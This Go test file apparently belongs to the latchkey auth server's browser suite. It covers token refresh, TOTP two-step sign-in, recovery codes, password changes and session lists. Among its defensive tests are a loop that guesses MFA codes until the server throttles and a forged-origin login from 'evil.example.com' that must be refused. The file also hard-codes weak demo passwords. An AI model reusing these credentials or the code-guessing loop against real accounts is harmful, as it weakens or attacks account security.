		tb.do("a phone's screen", chromedp.EmulateViewport(375, 740, chromedp.EmulateScale(2)))
		tb.signIn("anna", "password123member")
		tb.bookTitles("the books load", 3)
		if w := eval[map[string]int](tb, "no sideways scrolling", `({ page: document.documentElement.scrollWidth, screen: window.innerWidth })`); w["page"] > w["screen"] {
			tb.fail("no sideways scrolling", "the page is %d px wide on a %d px screen", w["page"], w["screen"])
		}
	})

	// Refreshing: 3-second access tokens, and no grace window, so that two
	// refreshes of one cookie that race are reuse and end the session.
	fastAuth, _, stopFast := startDemo(t, t.TempDir(), map[string]string{
		"LATCHKEY_ACCESS_TTL": "3s", "LATCHKEY_REFRESH_REUSE_GRACE": "0",
	})
	fastPage := fastAuth + "/"

	t.Run("with 3-second tokens the page keeps working through silent refresh", func(t *testing.T) {
		tb := b.newTab(t, "fast")
		tb.open(fastPage)
		tb.signIn("john", "password123admin")
		first := tb.claims()["jti"]
		start := time.Now()
		for time.Since(start) < 10*time.Second { // more than three lifetimes
			time.Sleep(time.Second)
			if !eval[bool](tb, "still signed in", shown("signed-in")) {
				tb.fail("still signed in", "signed out after %s", time.Since(start).Round(time.Second))
			}
		}
		c := tb.claims()
		if exp, _ := c["exp"].(float64); time.Unix(int64(exp), 0).Before(time.Now()) {
			tb.fail("the token is current", "the page holds a token that expired at %v", time.Unix(int64(exp), 0))
		}
		if c["jti"] == first {
			tb.fail("the token is current", "the page still holds its first token")
		}
		if n := refreshCount(tb); n < 3 {
			tb.fail("refreshed silently", "%d refreshes in 10 s of 3-second tokens", n)
		}
		for _, x := range afterLoad(tb.exchanges("POST", "/session/refresh")) {
			if x.status != 200 {
				tb.fail("refreshed silently", "a refresh answered %d (%s)", x.status, x.failed)
			}
		}
		tb.do("reload the books", chromedp.Click(chromedp.ID("books-reload")))
		tb.bookTitles("the books still load", 3)
		if tb.text("whoami-username") != "john" {
			tb.fail("who am I", "not john")
		}
	})

	t.Run("a 401 makes the page refresh and try again", func(t *testing.T) {
		tb := b.newTab(t, "401")
		tb.open(fastPage)
		tb.signIn("john", "password123admin")
		// The books server answers the next GET /books with 401, as it
		// would for a token that expired while the laptop slept.
		paused := chromedp.Events(tb.ctx, fetch.RequestPaused)
		if _, err := chromedp.Call(tb.ctx, fetch.Enable, fetch.EnableParams{Patterns: []*fetch.RequestPattern{{URLPattern: "*/books"}}}); err != nil {
			tb.fail("intercept GET /books", "%v", err)
		}
		var tokens []string
		done := make(chan error, 1)
		go func() {
			for ev, err := range paused {
				if err != nil {
					done <- err
					return
				}
				if ev.Request.Method != "GET" {
					if _, err := chromedp.Call(tb.ctx, fetch.ContinueRequest, fetch.ContinueRequestParams{RequestID: ev.RequestID}); err != nil {
						done <- err
						return
					}
					continue
				}
				tokens = append(tokens, fmt.Sprint(ev.Request.Headers["Authorization"]))
				if len(tokens) == 1 {
					_, err = chromedp.Call(tb.ctx, fetch.FulfillRequest, fetch.FulfillRequestParams{
						RequestID: ev.RequestID, ResponseCode: 401,
						ResponseHeaders: []*fetch.HeaderEntry{
							{Name: "Content-Type", Value: "application/json"},
							{Name: "Access-Control-Allow-Origin", Value: fastAuth},
							{Name: "WWW-Authenticate", Value: `Bearer realm="latchkey", error="invalid_token"`},
						},
						Body: []byte(`{"error":"invalid_token","error_description":"The access token expired."}`),
					})
				} else {
					_, err = chromedp.Call(tb.ctx, fetch.ContinueRequest, fetch.ContinueRequestParams{RequestID: ev.RequestID})
					done <- err
					return
				}
				if err != nil {
					done <- err
					return
				}
			}
		}()
		n := refreshCount(tb)
		tb.do("reload the books", chromedp.Click(chromedp.ID("books-reload")))
		select {
		case err := <-done:
			if err != nil {
				tb.fail("intercept GET /books", "%v", err)
			}
		case <-time.After(stepTimeout):
			tb.fail("intercept GET /books", "the page did not try again after the 401")
		}
		tb.bookTitles("the books load after the retry", 3)
		if got := refreshCount(tb); got <= n {
			tb.fail("refreshed on the 401", "refresh count %d, was %d", got, n)
		}
		if len(tokens) != 2 || tokens[0] == tokens[1] || !strings.HasPrefix(tokens[1], "Bearer ") {
			tb.fail("retried with a new token", "Authorization headers %q", tokens)
		}
		if _, err := chromedp.Call(tb.ctx, fetch.Disable, cdp.Empty{}); err != nil {
			tb.fail("stop intercepting", "%v", err)
		}
	})

	t.Run("two tabs refreshing at the same moment both stay signed in", func(t *testing.T) {
		one := b.newTab(t, "tab one")
		one.open(fastPage)
		one.signIn("anna", "password123member")
		two := one.sibling("tab two")
		two.open(fastPage)
		two.waitFor("the second tab signs in from the cookie", fmt.Sprintf(`%s && %s === 'anna'`, shown("signed-in"), textOf("whoami-username")))
		// Both click "Refresh now" at one instant, on top of the timers
		// that fire together every two seconds.
		at := time.Now().Add(400 * time.Millisecond).UnixMilli()
		for _, tb := range []*tab{one, two} {
			eval[bool](tb, "arm the click", fmt.Sprintf(`(setTimeout(() => document.getElementById('token-refresh').click(), %d - Date.now()), true)`, at))
		}
		time.Sleep(7 * time.Second)
		for _, tb := range []*tab{one, two} {
			if !eval[bool](tb, "still signed in", shown("signed-in")) {
				tb.fail("still signed in", "signed out: %s", tb.text("notice"))
			}
			tb.do("reload the books", chromedp.Click(chromedp.ID("books-reload")))
			tb.bookTitles("the books load", 3)
		}
		// The refreshes of the two tabs never overlapped: each waited for
		// the other's lock, so neither presented a cookie the other had
		// just retired.
		type span struct{ from, to float64 }
		var spans []span
		for _, tb := range []*tab{one, two} {
			for _, x := range afterLoad(tb.exchanges("POST", "/session/refresh")) {
				if x.status != 200 {
					tb.fail("refreshes", "a refresh answered %d (%s)", x.status, x.failed)
				}
				spans = append(spans, span{x.sent, x.done})
			}
		}
		if len(spans) < 4 {
			t.Fatalf("%d refreshes in the two tabs; the test did not make them race", len(spans))
		}
		for i := range spans {
			for j := range spans {
				if i < j && spans[i].from < spans[j].to && spans[j].from < spans[i].to {
					t.Errorf("two refreshes overlapped: %v and %v", spans[i], spans[j])
				}
			}
		}
	})

	t.Run("a server that is down gets a clear message", func(t *testing.T) {
		tb := b.newTab(t, "outage")
		tb.open(fastPage)
		tb.signIn("john", "password123admin")
		stopFast()
		tb.do("reload the books", chromedp.Click(chromedp.ID("books-reload")))
		tb.waitFor("the page says the books server is down", fmt.Sprintf(`%s && %s.includes('does not answer')`, shown("books-error"), textOf("books-error")))
		tb.waitFor("and that the session cannot be renewed", fmt.Sprintf(`%s && /auth server .* does not answer/.test(%s)`, shown("alert"), textOf("alert")))
		if !eval[bool](tb, "still signed in", shown("signed-in")) {
			tb.fail("still signed in", "an outage signed the user out")
		}
	})
}

// TestBrowserAccount: the page's account area (issue 11) in real Chromium
// against a real demo: two-step sign-in enrolled from the page and then
// asked at every sign-in, recovery codes, a password change and "my
// devices". Each scenario has a user of its own, registered over HTTP, so
// that its sessions and throttles are its own. The clock is real: a code
// is accepted once, so a sign-in after the enrolment uses the next step's
// code (one step of skew is allowed) or a recovery code.
func TestBrowserAccount(t *testing.T) {
	b := newTestBrowser(t)
	authURL, _, _ := startDemo(t, t.TempDir(), nil)
	page := authURL + "/"

	t.Run("enrol two-step sign-in from the page, then sign in with a code", func(t *testing.T) {
		registerUser(t, authURL, "erin", "password123erin")
		tb := b.newTab(t, "erin")
		tb.open(page)
		tb.signIn("erin", "password123erin")
		tb.waitFor("the page says it is off", fmt.Sprintf(`%s.startsWith('Off')`, textOf("totp-status")))

		tb.do("turn it on", chromedp.Click(chromedp.ID("totp-start")))
		tb.waitFor("the password is asked", shown("totp-start-password"))
		tb.do("a wrong password", typeInto("totp-start-password", "not-erins-password\r"))
		tb.waitFor("the page says it is wrong", fmt.Sprintf(`%s && %s === 'Wrong password.'`, shown("totp-start-error"), textOf("totp-start-error")))
		tb.do("the right one", typeInto("totp-start-password", "password123erin\r"))
		tb.waitFor("the QR code and the key show", fmt.Sprintf(`%s && %s.length > 0`, shown("totp-enrol"), textOf("totp-secret")))
		qr := eval[map[string]any](tb, "the QR code", `(img => ({ src: img.getAttribute('src').slice(0, 22), loaded: img.complete && img.naturalWidth > 0 }))(document.getElementById('totp-qr'))`)
		if qr["src"] != "data:image/png;base64," || qr["loaded"] != true {
			tb.fail("the QR code", "img %v: want a data:image/png URL that the CSP lets load", qr)
		}
		secret := strings.Join(strings.Fields(tb.text("totp-secret")), "")
		if eval[bool](tb, "still off until confirmed", shown("totp-disable-form")) {
			tb.fail("still off until confirmed", "the page offers to turn off what is not on yet")
		}

		tb.do("a wrong code", typeInto("totp-confirm-code", wrongCode(t, secret)+"\r"))
		tb.waitFor("the page says the code is wrong", fmt.Sprintf(`%s && %s.includes('not the code')`, shown("totp-confirm-error"), textOf("totp-confirm-error")))
		tb.do("the code the app shows", typeInto("totp-confirm-code", totpCode(t, secret, time.Now())+"\r"))
		tb.waitFor("the recovery codes show", fmt.Sprintf(`%s && document.querySelectorAll('#recovery-codes li').length === 10`, shown("totp-recovery")))
		codes := eval[[]string](tb, "read the recovery codes", `[...document.querySelectorAll('#recovery-codes li')].map(li => li.textContent)`)
		for _, c := range codes {
			if !regexp.MustCompile(`^[a-z2-7]{4}(-[a-z2-7]{4}){3}$`).MatchString(c) {
				tb.fail("read the recovery codes", "code %q, want xxxx-xxxx-xxxx-xxxx", c)
			}
		}
		if w := tb.text("recovery-warning"); !strings.Contains(w, "will not be shown again") || !eval[bool](tb, "the warning shows", shown("recovery-warning")) {
			tb.fail("the warning shows", "warning %q", w)
		}
		if tb.text("totp-secret") != "" || eval[bool](tb, "the secret is gone", `document.getElementById('totp-qr').hasAttribute('src')`) {
			tb.fail("the secret is gone", "the key or the QR code stays in the page after the enrolment")
		}
		tb.do("acknowledge them", chromedp.Click(chromedp.ID("recovery-ack")))
		tb.waitFor("the page says it is on, with ten codes", fmt.Sprintf(`%s && %s.startsWith('On') && %s.includes('10 recovery codes left') && %s`,
			shown("totp-status"), textOf("totp-status"), textOf("totp-status"), shown("totp-disable-form")))
		if n := eval[int](tb, "the codes are gone", `document.querySelectorAll('#recovery-codes li').length`); n != 0 || eval[bool](tb, "the codes are gone", shown("totp-recovery")) {
			tb.fail("the codes are gone", "%d recovery codes stay in the page", n)
		}

		tb.do("sign out", chromedp.Click(chromedp.ID("signout")))
		tb.enterPassword("erin", "password123erin")
		tb.waitFor("the code step shows", fmt.Sprintf(`%s && %s.includes('Enter the 6-digit code from your authenticator app, or a recovery code')`,
			shown("mfa-form"), textOf("mfa-code-hint")))
		if eval[bool](tb, "not signed in yet", shown("signed-in")) || tb.refreshCookie(authURL) != nil {
			tb.fail("not signed in yet", "the password alone signed erin in")
		}
		// The code of the enrolment's step is spent; the next step's is
		// what the app shows a moment later.
		tb.enterCode(totpCode(t, secret, time.Now().Add(30*time.Second)))
		tb.waitSignedIn("erin")
		if got := tb.exchanges("POST", "/session/login"); len(got) != 2 || got[1].status != 401 {
			tb.fail("the password step", "POST /session/login: %+v, want the second answered 401 mfa_required", got)
		}
		if got := tb.exchanges("POST", "/session/login/mfa"); len(got) != 1 || got[0].status != 200 {
			tb.fail("the code step", "POST /session/login/mfa: %+v, want one 200", got)
		}
		tb.noTokenReadable(authURL, "after the two-step sign-in")
		tb.waitFor("the page says it is on", fmt.Sprintf(`%s.startsWith('On')`, textOf("totp-status")))

		// Off again, with the password and a recovery code.
		tb.do("turn it off with a wrong code",
			typeInto("totp-disable-password", "password123erin"),
			typeInto("totp-disable-code", "aaaa-aaaa-aaaa-aaaa\r"))
		tb.waitFor("the page says the code is wrong", fmt.Sprintf(`%s && %s.includes('code is wrong')`, shown("totp-disable-error"), textOf("totp-disable-error")))
		tb.do("turn it off with a recovery code", typeInto("totp-disable-code", codes[0]+"\r"))
		tb.waitFor("the page says it is off", fmt.Sprintf(`%s.startsWith('Off') && %s`, textOf("totp-status"), shown("totp-start")))
		tb.do("sign out", chromedp.Click(chromedp.ID("signout")))
		tb.signIn("erin", "password123erin") // the password alone again
	})

	t.Run("a recovery code signs in once, and a wrong code can be retried", func(t *testing.T) {
		registerUser(t, authURL, "frank", "password123frank")
		secret, codes := enrolOverHTTP(t, authURL, "frank", "password123frank")
		tb := b.newTab(t, "frank")
		tb.open(page)
		tb.enterPassword("frank", "password123frank")
		tb.enterCode(wrongCode(t, secret))
		tb.waitFor("the page says the code is wrong", fmt.Sprintf(`%s && %s.includes('wrong')`, shown("mfa-error"), textOf("mfa-error")))
		tb.enterCode(strings.ToUpper(codes[0])) // as a person may type it
		tb.waitSignedIn("frank")
		tb.waitFor("nine codes left", fmt.Sprintf(`%s.includes('9 recovery codes left')`, textOf("totp-status")))

		tb.do("sign out", chromedp.Click(chromedp.ID("signout")))
		tb.enterPassword("frank", "password123frank")
		tb.enterCode(codes[0])
		tb.waitFor("the used code is refused", fmt.Sprintf(`%s && %s.includes('already used')`, shown("mfa-error"), textOf("mfa-error")))
		if eval[bool](tb, "still at the code step", shown("signed-in")+" || !"+shown("mfa-form")) {
			tb.fail("still at the code step", "a used recovery code signed frank in, or the step went")
		}
		tb.enterCode(codes[1])
		tb.waitSignedIn("frank")
		tb.waitFor("eight codes left", fmt.Sprintf(`%s.includes('8 recovery codes left')`, textOf("totp-status")))
		var statuses []int64
		for _, x := range tb.exchanges("POST", "/session/login/mfa") {
			statuses = append(statuses, x.status)
		}
		if fmt.Sprint(statuses) != "[401 200 401 200]" {
			tb.fail("the code step's answers", "POST /session/login/mfa answered %v, want [401 200 401 200]", statuses)
		}
	})

	t.Run("an expired step goes back to the password, and throttled codes give the wait", func(t *testing.T) {
		id := registerUser(t, authURL, "gina", "password123gina")
		enrolOverHTTP(t, authURL, "gina", "password123gina")
		admin := apiLogin(t, authURL, "john", "password123admin")
		tb := b.newTab(t, "gina")
		tb.open(page)
		tb.enterPassword("gina", "password123gina")
		tb.waitFor("the code step shows", shown("mfa-form"))
		// The first step's answer no longer holds once the account is
		// disabled: the server refuses the mfaToken (invalid_grant).
		setDisabled(t, authURL, admin, id, true)
		tb.enterCode("123456")
		tb.waitFor("back at the password form", fmt.Sprintf(`%s && !%s && %s.includes('Enter your password again') && document.getElementById('signin-username').value === 'gina'`,
			shown("signin-form"), shown("mfa-form"), textOf("signin-error")))
		setDisabled(t, authURL, admin, id, false)

		tb.enterPassword("gina", "password123gina")
		tb.waitFor("the code step shows", shown("mfa-form"))
		// Someone with gina's password guesses codes over the API until the
		// server makes them wait; the page then shows the wait too.
		tok := mfaToken(t, authURL, "gina", "password123gina")
		throttled := false
		for range 30 {
			st, body := postJSON(t, authURL+"/login/mfa", map[string]string{"mfaToken": tok, "code": "aaaa-bbbb-cccc-dddd"})
			if st == 429 {
				throttled = true
				break
			}
			if st != 401 {
				t.Fatalf("a wrong code: %d %s", st, body)
			}
		}
		if !throttled {
			t.Fatal("30 wrong codes and no 429")
		}
		tb.enterCode("123456")
		tb.waitFor("the page gives the wait", fmt.Sprintf(`/Try again in \d+ (s|min)/.test(%s)`, textOf("mfa-error")))
		if !eval[bool](tb, "the button waits too", `document.getElementById('mfa-submit').disabled`) {
			tb.fail("the button waits too", "the verify button is enabled during the wait")
		}
		if got := tb.exchanges("POST", "/session/login/mfa"); len(got) != 2 || got[0].status != 401 || got[1].status != 429 {
			tb.fail("the code step's answers", "POST /session/login/mfa: %+v, want 401 then 429", got)
		}
	})

	t.Run("a password change from the page ends the other sessions and keeps this one", func(t *testing.T) {
		registerUser(t, authURL, "carol", "password123carol")
		other := apiLogin(t, authURL, "carol", "password123carol") // another device, over HTTP
		tb := b.newTab(t, "carol")
		tb.open(page)
		tb.signIn("carol", "password123carol")
		tb.waitFor("two devices listed", `document.querySelectorAll('#devices-list li').length === 2`)

		tb.do("a wrong current password",
			typeInto("password-current", "not-carols-password"),
			typeInto("password-new", "password456carol\r"))
		tb.waitFor("the page says it is wrong", fmt.Sprintf(`%s && %s === 'The current password is wrong.'`, shown("password-error"), textOf("password-error")))
		if got := tb.exchanges("POST", "/me/password"); len(got) != 1 {
			tb.fail("one attempt spent", "POST /me/password sent %d times for one wrong password (a 401 must not be retried)", len(got))
		}
		tb.do("change it",
			typeInto("password-current", "password123carol"),
			typeInto("password-new", "password456carol\r"))
		tb.waitFor("the page says the others were signed out", fmt.Sprintf(`%s && %s.includes('Every other device') && %s.includes('signed out')`,
			shown("password-notice"), textOf("password-notice"), textOf("password-notice")))
		tb.waitFor("only this device is listed", `document.querySelectorAll('#devices-list li').length === 1 && document.querySelector('#devices-list li').classList.contains('current')`)

		if st, body := postJSON(t, authURL+"/token", map[string]string{"refreshToken": other.RefreshToken}); st != 401 || !strings.Contains(string(body), "invalid_grant") {
			t.Errorf("the other device's refresh after the change: %d %s, want 401 invalid_grant", st, body)
		}
		// The page is still signed in: its session refreshes, and its
		// calls go through.
		n := refreshCount(tb)
		tb.do("refresh now", chromedp.Click(chromedp.ID("token-refresh")))
		tb.waitFor("the session still refreshes", fmt.Sprintf(`Number(%s) === %d`, textOf("token-refreshes"), n+1))
		tb.do("reload the devices", chromedp.Click(chromedp.ID("devices-reload")))
		tb.waitFor("still listed", `document.querySelectorAll('#devices-list li.current').length === 1`)
		if !eval[bool](tb, "still signed in", shown("signed-in")) {
			tb.fail("still signed in", "signed out: %s", tb.text("notice"))
		}
		if st, _ := postJSON(t, authURL+"/login", map[string]string{"username": "carol", "password": "password456carol"}); st != 200 {
			t.Errorf("login with the new password: %d", st)
		}
	})

	t.Run("my devices lists the sessions, and signing one out ends it", func(t *testing.T) {
		registerUser(t, authURL, "dana", "password123dana")
		laptop := b.newTab(t, "laptop")
		phone := b.newTab(t, "phone")
		laptop.open(page)
		laptop.signIn("dana", "password123dana")
		phone.open(page)
		phone.signIn("dana", "password123dana")
		script := apiLogin(t, authURL, "dana", "password123dana")
		laptopSID, phoneSID := laptop.claims()["sid"].(string), phone.claims()["sid"].(string)
		scriptSID := claimsOf(t, script.AccessToken)["sid"].(string)

		laptop.do("reload the devices", chromedp.Click(chromedp.ID("devices-reload")))
		laptop.waitFor("three devices listed", `document.querySelectorAll('#devices-list li').length === 3`)
		rows := eval[[]map[string]any](laptop, "read the list", `[...document.querySelectorAll('#devices-list li')].map(li => ({
			id: li.dataset.id, text: li.textContent, current: li.classList.contains('current'),
			button: li.querySelector('button').textContent }))`)
		byID := map[string]map[string]any{}
		for _, r := range rows {
			byID[r["id"].(string)] = r
		}
		for sid, want := range map[string]struct {
			current bool
			says    string
			button  string
		}{
			laptopSID: {true, "This device", "Sign out"},
			phoneSID:  {false, "Chrome on Linux", "Sign out this device"},
			scriptSID: {false, "A Go program", "Sign out this device"},
		} {
			r := byID[sid]
			if r == nil || r["current"] != want.current || !strings.Contains(r["text"].(string), want.says) ||
				!strings.Contains(r["text"].(string), "127.0.0.1") || r["button"] != want.button {
				laptop.fail("read the list", "session %s: %v; want current %v, saying %q and the address, button %q (all: %v)", sid, r, want.current, want.says, want.button, rows)
			}
		}
		if rows[0]["id"] != laptopSID {
			laptop.fail("read the list", "this device is not listed first: %v", rows)
		}

		laptop.do("sign the phone out", chromedp.Click(chromedp.CSS(fmt.Sprintf(`#devices-list li[data-id=%q] button`, phoneSID))))
		laptop.waitFor("two devices left", fmt.Sprintf(`document.querySelectorAll('#devices-list li').length === 2 && !document.querySelector('#devices-list li[data-id=%q]') && %s.includes('Signed out')`,
			phoneSID, textOf("devices-notice")))
		if got := laptop.exchanges("DELETE", "/me/sessions/"+phoneSID); len(got) != 1 || got[0].status != 204 || !strings.HasPrefix(got[0].authorization, "Bearer ") {
			laptop.fail("DELETE /me/sessions/{id} with the Bearer token", "%+v", got)
		}
		phone.do("the phone comes back", chromedp.Reload())
		phone.waitFor("the phone is signed out", shown("signin-form"))
		if st, body := postJSON(t, authURL+"/token", map[string]string{"refreshToken": script.RefreshToken}); st != 200 {
			t.Errorf("the script's session, not signed out: refresh %d %s", st, body)
		}

		// Ending this device's own session is signing out.
		laptop.do("sign this device out", chromedp.Click(chromedp.CSS(fmt.Sprintf(`#devices-list li[data-id=%q] button`, laptopSID))))
		laptop.waitFor("the laptop is signed out", fmt.Sprintf(`%s && %s === 'You are signed out.'`, shown("signin-form"), textOf("notice")))
		if c := laptop.refreshCookie(authURL); c != nil {
			laptop.fail("the cookie is gone", "the browser still holds %s", c.Name)
		}
		if n := eval[int](laptop, "the list is gone", `document.querySelectorAll('#devices-list li').length`); n != 0 {
			laptop.fail("the list is gone", "%d devices stay in the page after signing out", n)
		}
	})
}

// tokens is the answer of POST /login.
type tokens struct {
	AccessToken  string `json:"accessToken"`
	RefreshToken string `json:"refreshToken"`
}

func registerUser(tb testing.TB, authURL, user, pass string) (id string) {
	tb.Helper()
	st, body := postJSON(tb, authURL+"/register", map[string]string{"username": user, "password": pass})
	var u struct{ ID string }
	if st != 201 || json.Unmarshal(body, &u) != nil || u.ID == "" {
		tb.Fatalf("register %s: %d %s", user, st, body)
	}
	return u.ID
}

func apiLogin(tb testing.TB, authURL, user, pass string) tokens {
	tb.Helper()
	st, body := postJSON(tb, authURL+"/login", map[string]string{"username": user, "password": pass})
	var tk tokens
	if st != 200 || json.Unmarshal(body, &tk) != nil || tk.AccessToken == "" {
		tb.Fatalf("login %s: %d %s", user, st, body)
	}
	return tk
}

// mfaToken is the first step of a login over HTTP for a user with TOTP.
func mfaToken(tb testing.TB, authURL, user, pass string) string {
	tb.Helper()
	st, body := postJSON(tb, authURL+"/login", map[string]string{"username": user, "password": pass})
	var m struct {
		Error    string `json:"error"`
		MFAToken string `json:"mfaToken"`
	}
	if st != 401 || json.Unmarshal(body, &m) != nil || m.Error != "mfa_required" || m.MFAToken == "" {
		tb.Fatalf("login %s: %d %s, want 401 mfa_required with an mfaToken", user, st, body)
	}
	return m.MFAToken
}

// enrolOverHTTP turns TOTP on for a user with the API, as a setup step,
// and returns the secret and the recovery codes.
func enrolOverHTTP(tb testing.TB, authURL, user, pass string) (secret string, codes []string) {
	tb.Helper()
	bearer := "Bearer " + apiLogin(tb, authURL, user, pass).AccessToken
	st, body := postJSON(tb, authURL+"/me/totp", map[string]string{"password": pass}, "Authorization", bearer)
	var en struct{ Secret string }
	if st != 200 || json.Unmarshal(body, &en) != nil || en.Secret == "" {
		tb.Fatalf("POST /me/totp for %s: %d %s", user, st, body)
	}
	st, body = postJSON(tb, authURL+"/me/totp/confirm", map[string]string{"code": totpCode(tb, en.Secret, time.Now())}, "Authorization", bearer)
	var rc struct{ RecoveryCodes []string }
	if st != 200 || json.Unmarshal(body, &rc) != nil || len(rc.RecoveryCodes) != 10 {
		tb.Fatalf("POST /me/totp/confirm for %s: %d %s", user, st, body)
	}
	return en.Secret, rc.RecoveryCodes
}

func setDisabled(tb testing.TB, authURL string, admin tokens, id string, disabled bool) {
	tb.Helper()
	if st, body := callJSON(tb, "PATCH", authURL+"/admin/users/"+id, map[string]bool{"disabled": disabled}, "Authorization", "Bearer "+admin.AccessToken); st != 200 {
		tb.Fatalf("PATCH /admin/users/%s disabled=%v: %d %s", id, disabled, st, body)
	}
}

// totpCode is what an authenticator app with the secret shows at t.
func totpCode(tb testing.TB, secret string, t time.Time) string {
	tb.Helper()
	c, err := latchkey.TOTPCode(secret, t)
	if err != nil {
		tb.Fatalf("TOTP code of %q: %v", secret, err)
	}
	return c
}

// wrongCode is a 6-digit code that no step of the skew window has now.
func wrongCode(tb testing.TB, secret string) string {
	tb.Helper()
	near := map[string]bool{}
	for d := -2; d <= 2; d++ {
		near[totpCode(tb, secret, time.Now().Add(time.Duration(d)*30*time.Second))] = true
	}
	for _, c := range []string{"000000", "111111", "222222", "333333", "444444", "555555"} {
		if !near[c] {
			return c
		}
	}
	tb.Fatal("no wrong code")
	return ""
}

// claimsOf decodes a JWT's payload.
func claimsOf(tb testing.TB, jwt string) map[string]any {
	tb.Helper()
	parts := strings.Split(jwt, ".")
	var m map[string]any
	b, err := base64.RawURLEncoding.DecodeString(parts[min(1, len(parts)-1)])
	if err == nil {
		err = json.Unmarshal(b, &m)
	}
	if len(parts) != 3 || err != nil {
		tb.Fatalf("not a JWT (%v): %q", err, jwt)
	}
	return m
}

// TestBrowserSettings: LATCHKEY_BOOKS_URL and LATCHKEY_COOKIE_SECURE as the
// contract's table gives them, and the demo's books URL following its
// listener.
func TestBrowserSettings(t *testing.T) {
	inTempDir(t)
	for _, tc := range []struct {
		name     string
		cmd      command
		vars     map[string]string
		booksURL string
		secure   bool
	}{
		{name: "defaults", cmd: serveCmd, booksURL: "http://localhost:4000"},
		{name: "https issuer", cmd: serveCmd, vars: map[string]string{"LATCHKEY_ISSUER": "https://auth.example.com"},
			booksURL: "http://localhost:4000", secure: true},
		{name: "https issuer, said true", cmd: serveCmd, vars: map[string]string{"LATCHKEY_ISSUER": "https://auth.example.com", "LATCHKEY_COOKIE_SECURE": "true"},
			booksURL: "http://localhost:4000", secure: true},
		{name: "http issuer, told to be secure", cmd: serveCmd, vars: map[string]string{"LATCHKEY_COOKIE_SECURE": "true"},
			booksURL: "http://localhost:4000", secure: true},
		{name: "http issuer, said false", cmd: serveCmd, vars: map[string]string{"LATCHKEY_COOKIE_SECURE": "false"},
			booksURL: "http://localhost:4000"},
		{name: "books URL given", cmd: serveCmd, vars: map[string]string{"LATCHKEY_BOOKS_URL": "https://books.example.com/"},
			booksURL: "https://books.example.com"},
		{name: "demo defaults", cmd: demoCmd, booksURL: "http://localhost:4000"},
		{name: "demo books address", cmd: demoCmd, vars: map[string]string{"LATCHKEY_BOOKS_ADDR": "127.0.0.1:4100"},
			booksURL: "http://127.0.0.1:4100"},
		{name: "demo books address and URL", cmd: demoCmd, vars: map[string]string{"LATCHKEY_BOOKS_ADDR": "127.0.0.1:4100", "LATCHKEY_BOOKS_URL": "http://books.local:4100"},
			booksURL: "http://books.local:4100"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := mustLoadConfig(t, tc.cmd, tc.vars)
			if cfg.BooksURL != tc.booksURL || cfg.CookieSecure != tc.secure {
				t.Errorf("books URL %q, cookie secure %v; want %q, %v", cfg.BooksURL, cfg.CookieSecure, tc.booksURL, tc.secure)
			}
		})
	}
	for _, tc := range []struct {
		name string
		vars map[string]string
		says string
	}{
		{"false with an https issuer", map[string]string{"LATCHKEY_ISSUER": "https://auth.example.com", "LATCHKEY_COOKIE_SECURE": "false"}, "LATCHKEY_COOKIE_SECURE"},
		{"not a boolean", map[string]string{"LATCHKEY_COOKIE_SECURE": "yes"}, "LATCHKEY_COOKIE_SECURE"},
		{"books URL not http", map[string]string{"LATCHKEY_BOOKS_URL": "books:4000"}, "LATCHKEY_BOOKS_URL"},
		{"wildcard app origin", map[string]string{"LATCHKEY_CORS_ORIGINS": "*"}, "LATCHKEY_CORS_ORIGINS"},
	} {
		t.Run("refused: "+tc.name, func(t *testing.T) {
			_, _, err := loadConfig(serveCmd, nil, env{getenv: func(k string) string { return tc.vars[k] }, stderr: io.Discard}, nil)
			var out strings.Builder
			if code := exitCode(err, &out); code != 2 || !strings.Contains(out.String(), tc.says) {
				t.Errorf("exit %d, %q; want 2 naming %s", code, out.String(), tc.says)
			}
		})
	}

	// The binary hands the origins to the auth server: an app origin of
	// LATCHKEY_CORS_ORIGINS passes cookie mode's CSRF check, another does not.
	authURL, _, _ := startDemo(t, t.TempDir(), map[string]string{"LATCHKEY_CORS_ORIGINS": "https://app.example.com"})
	login := map[string]string{"username": "anna", "password": "password123member"}
	if st, body := postJSON(t, authURL+"/session/login", login, "Origin", "https://app.example.com", "X-Latchkey-CSRF", "1"); st != 200 {
		t.Errorf("login from the configured app origin: %d %s", st, body)
	}
	if st, body := postJSON(t, authURL+"/session/login", login, "Origin", "https://evil.example.com", "X-Latchkey-CSRF", "1"); st != 403 {
		t.Errorf("login from another origin: %d %s, want 403", st, body)
	}
}
